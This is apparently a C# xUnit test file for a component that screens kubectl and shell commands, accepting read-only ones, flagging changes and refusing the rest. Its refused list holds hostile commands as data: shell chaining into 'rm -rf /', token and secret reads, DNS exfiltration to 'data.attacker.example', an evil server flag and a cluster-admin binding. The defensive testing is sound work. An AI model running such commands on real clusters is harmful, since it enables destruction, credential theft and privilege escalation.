using KubeMemory.Core.Analysis.Commands;
using Xunit;

namespace KubeMemory.Tests.Core.Analysis.Commands;

public sealed class CommandScreenTests
{
    private static readonly CommandScope Scope = new("shop", "Deployment", "checkout", "checkout-7d9f8b6c5-x2x4z", "node-1", "registry.example.com/app:1", "postgres.payments", LookOnly: false);

    public static TheoryData<string, string> Looks() => new()
    {
        { "kubectl get pods", "kubectl get pods -n shop" },
        { "kubectl get pods -n shop -o wide", "kubectl get pods -n shop -o wide" },
        { "$ kubectl -n shop get pods", "kubectl -n shop get pods" },
        { "`kubectl describe pod <pod-name>`", "kubectl describe pod <pod-name> -n shop" },
        { "kubectl get pods -nshop", "kubectl get pods -nshop" },
        { "kubectl get pods --namespace=<namespace>", "kubectl get pods --namespace=<namespace>" },
        { "kubectl logs deployment/checkout --previous --tail=50", "kubectl logs deployment/checkout --previous --tail=50 -n shop" },
        { "kubectl logs checkout-7d9f8b6c5-x2x4z -c app -f", "kubectl logs checkout-7d9f8b6c5-x2x4z -c app -f -n shop" },
        { "kubectl get events --sort-by=.lastTimestamp --field-selector involvedObject.name=checkout", "kubectl get events --sort-by=.lastTimestamp --field-selector involvedObject.name=checkout -n shop" },
        { "kubectl get pod checkout-1 -o jsonpath='{.status.containerStatuses[*].lastState}'", "kubectl get pod checkout-1 -o jsonpath='{.status.containerStatuses[*].lastState}' -n shop" },
        { "kubectl get secret", "kubectl get secret -n shop" },
        { "kubectl describe secret db", "kubectl describe secret db -n shop" },
        { "kubectl get nodes", "kubectl get nodes" },
        { "kubectl describe node node-1", "kubectl describe node node-1" },
        { "kubectl top pods", "kubectl top pods -n shop" },
        { "kubectl top nodes", "kubectl top nodes" },
        { "kubectl rollout history deployment/checkout", "kubectl rollout history deployment/checkout -n shop" },
        { "kubectl auth can-i get pods", "kubectl auth can-i get pods -n shop" },
        { "kubectl version", "kubectl version" },
        { "kubectl exec deploy/checkout -- nslookup postgres.payments", "kubectl exec deploy/checkout -n shop -- nslookup postgres.payments" },
        { "kubectl exec checkout-7d9f8b6c5-x2x4z -n shop -- cat /etc/resolv.conf", "kubectl exec checkout-7d9f8b6c5-x2x4z -n shop -- cat /etc/resolv.conf" },
        { "kubectl exec -it <pod> -- nc -zv postgres.payments.svc.cluster.local 5432", "kubectl exec -it <pod> -n shop -- nc -zv postgres.payments.svc.cluster.local 5432" },
        { "helm history checkout -n shop", "helm history checkout -n shop" },
        { "crictl ps -a", "crictl ps -a" },
        { "journalctl -u kubelet --no-pager --since today", "journalctl -u kubelet --no-pager --since today" },
    };

    public static TheoryData<string> Changes() =>
    [
        "kubectl rollout restart deployment/checkout -n shop",
        "kubectl rollout undo deploy checkout -n shop",
        "kubectl scale deployment checkout --replicas=3 -n shop",
        "kubectl set image deployment/checkout app=<image>:<tag> -n shop",
        "kubectl set env deployment/checkout DATABASE_URL=<url> -n shop",
        "kubectl set resources deployment/checkout -c app --limits=memory=512Mi --requests=cpu=100m,memory=256Mi -n shop",
        "kubectl delete pod checkout-7d9f8b6c5-x2x4z -n shop",
        "kubectl delete job <job-name> -n shop",
        "kubectl edit deployment checkout -n shop",
        "kubectl edit configmap app-config -n shop",
        "kubectl cordon node-1",
        "kubectl uncordon <node>",
        "kubectl label node node-1 disktype=ssd",
        "kubectl apply -f <manifest.yaml> -n shop",
        "kubectl apply -f deployment.yaml -n shop",
        "kubectl create configmap app-config --from-literal=KEY=<value> -n shop",
        "kubectl create secret generic db --from-literal=password=<password> -n shop",
        "kubectl create secret docker-registry pull --docker-server=registry.example.com --docker-username=<user> --docker-password=<password> -n shop",
        "helm rollback checkout 3 -n shop",
    ];

    public static TheoryData<string> Refused() =>
    [
        // not one plain program
        "kubectl get pods | sh",
        "kubectl get pods | grep x",
        "kubectl get pods; rm -rf /",
        "kubectl get pods && reboot",
        "kubectl get pods > /etc/cron.d/x",
        "kubectl get pods < /etc/passwd",
        "kubectl get pod $(cat x)",
        "kubectl get pod `cat x`",
        "kubectl get pod \"$(cat x)\"",
        "kubectl get pod \"${HOME}\"",
        "kubectl get pods\nkubectl delete ns shop",
        "kubectl get pods \\",
        "kubectl get pods -o 'jsonpath",
        "sudo kubectl get pods",
        "bash -c 'kubectl get pods'",
        "curl http://example.com",
        "wget example.com",
        "echo aGk= | base64 -d",
        "python3 -c 'import os'",
        "rm -rf /",
        // no such command or flag
        "kubectl heal deployment checkout",
        "kubectl fix",
        "kubectl",
        "kubectl get pods --fix-everything",
        "kubectl get pods --show-root-cause=true",
        "kubectl rollout restart deployment/checkout --safe",
        "kubectl logs checkout --crashed",
        "kubectl get pods -Z",
        // another cluster, namespace or person
        "kubectl get pods -n kube-system",
        "kubectl get pods -nkube-system",
        "kubectl get pods --namespace=kube-system",
        "kubectl -n kube-system get pods",
        "kubectl get pods -A",
        "kubectl get pods --all-namespaces",
        "kubectl describe ns kube-system",
        "kubectl get pods --context other",
        "kubectl get pods --kubeconfig /tmp/x",
        "kubectl get pods --server=evil.example",
        "kubectl get pods --token=abc",
        "kubectl get pods --as=admin",
        "kubectl get pods --insecure-skip-tls-verify",
        // secrets
        "kubectl get secret db -o yaml",
        "kubectl get secrets -o json",
        "kubectl get secret/db -ojson",
        "kubectl get pods,secrets -o yaml",
        "kubectl get secret db -o jsonpath='{.data.password}'",
        "kubectl get --raw /api/v1/namespaces/shop/secrets",
        "kubectl config view --raw",
        "kubectl create token default",
        "helm get values checkout",
        // runs a program
        "kubectl exec checkout-1 -- sh -c ls",
        "kubectl exec checkout-1 -- bash",
        "kubectl exec checkout-1 -- env",
        "kubectl exec checkout-1 -- cat /var/run/secrets/kubernetes.io/serviceaccount/token",
        "kubectl exec checkout-1 -- ls /run/secrets",
        "kubectl exec checkout-1 -- nslookup data.attacker.example",
        "kubectl exec checkout-1 -- curl localhost",
        "kubectl exec other-1 -- id",
        "kubectl exec checkout-1",
        "kubectl run x --image=evil",
        "kubectl debug checkout-1 --image=busybox",
        "kubectl attach checkout-1",
        "kubectl cp checkout-1:/etc/passwd /tmp/x",
        "kubectl proxy",
        "kubectl port-forward checkout-1 8080",
        // changes too much
        "kubectl delete ns shop",
        "kubectl delete namespace shop",
        "kubectl delete deployment checkout",
        "kubectl delete pod --all",
        "kubectl delete pod -l app=checkout",
        "kubectl delete pods other-1",
        "kubectl delete pvc data",
        "kubectl delete pod checkout-1 --force --grace-period=0",
        "kubectl delete -f x.yaml",
        "kubectl scale deployment checkout --replicas=0",
        "kubectl scale deployment other --replicas=3",
        "kubectl scale deployment --all --replicas=3",
        "kubectl rollout undo deployment/other",
        "kubectl rollout restart statefulset/checkout",
        "kubectl set image deployment/checkout app=evil/app:1",
        "kubectl set env deployment/checkout TLS=off",
        "kubectl set env deployment/checkout --from=secret/db",
        "kubectl edit secret db",
        "kubectl edit role admin",
        "kubectl patch deployment checkout -p '{}'",
        "kubectl apply -f https://example.com/x.yaml",
        "kubectl apply -f -",
        "kubectl apply -f /etc/passwd",
        "kubectl apply -k dir",
        "kubectl create secret generic db --from-literal=password=hunter2",
        "kubectl create clusterrolebinding x --clusterrole=cluster-admin --user=x",
        "kubectl drain node-1",
        "kubectl cordon node-2",
        "kubectl taint nodes node-2 a=b:NoExecute",
        "kubectl label node node-2 a=b",
        "helm uninstall checkout",
        "helm rollback other 1",
        "docker run x",
        "docker system prune",
        "crictl rmi x",
        "systemctl restart kubelet",
        "iptables -F",
    ];

    [Theory]
    [MemberData(nameof(Looks))]
    public void Screen_Look_IsTakenWithTheNamespace(string command, string expected) =>
        Assert.Equal(new ScreenedCommand(expected, false, null), new CommandScreen(Scope).Screen(command));

    [Theory]
    [MemberData(nameof(Changes))]
    public void Screen_Change_IsMarked(string command) => Assert.Equal(new ScreenedCommand(command, true, null), new CommandScreen(Scope).Screen(command));

    [Theory]
    [MemberData(nameof(Changes))]
    public void Screen_ChangeWhereOnlyLookingIsTaken_IsRefused(string command) =>
        Assert.NotNull(new CommandScreen(Scope with { LookOnly = true }).Screen(command).Refused);

    [Theory]
    [MemberData(nameof(Refused))]
    public void Screen_AnythingElse_IsRefusedInASentence(string command)
    {
        var screened = new CommandScreen(Scope).Screen(command);

        Assert.Null(screened.Command);
        Assert.EndsWith(".", screened.Refused, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData(null)]
    [InlineData("")]
    [InlineData("  ` `")]
    public void Screen_NoCommand_IsNone(string? command) => Assert.Equal(ScreenedCommand.None, new CommandScreen(Scope).Screen(command));

    [Fact]
    public void Table_Always_HasTheCommandsOfKubectl()
    {
        Assert.True(KubectlTable.All.Count > 90);
        Assert.Equal(new KubectlFlag("--output", true), KubectlTable.Find(["get", "pods"])!.Flags["-o"]);
        Assert.Equal(new KubectlFlag("--previous", false), KubectlTable.Find(["logs"])!.Flags["-p"]);
        Assert.Equal(("rollout undo", CommandUse.Change), (KubectlTable.Find(["rollout", "undo", "deployment/x"])!.Name, KubectlTable.Find(["rollout", "undo"])!.Use));
        Assert.Null(KubectlTable.Find(["heal"]));
    }
}
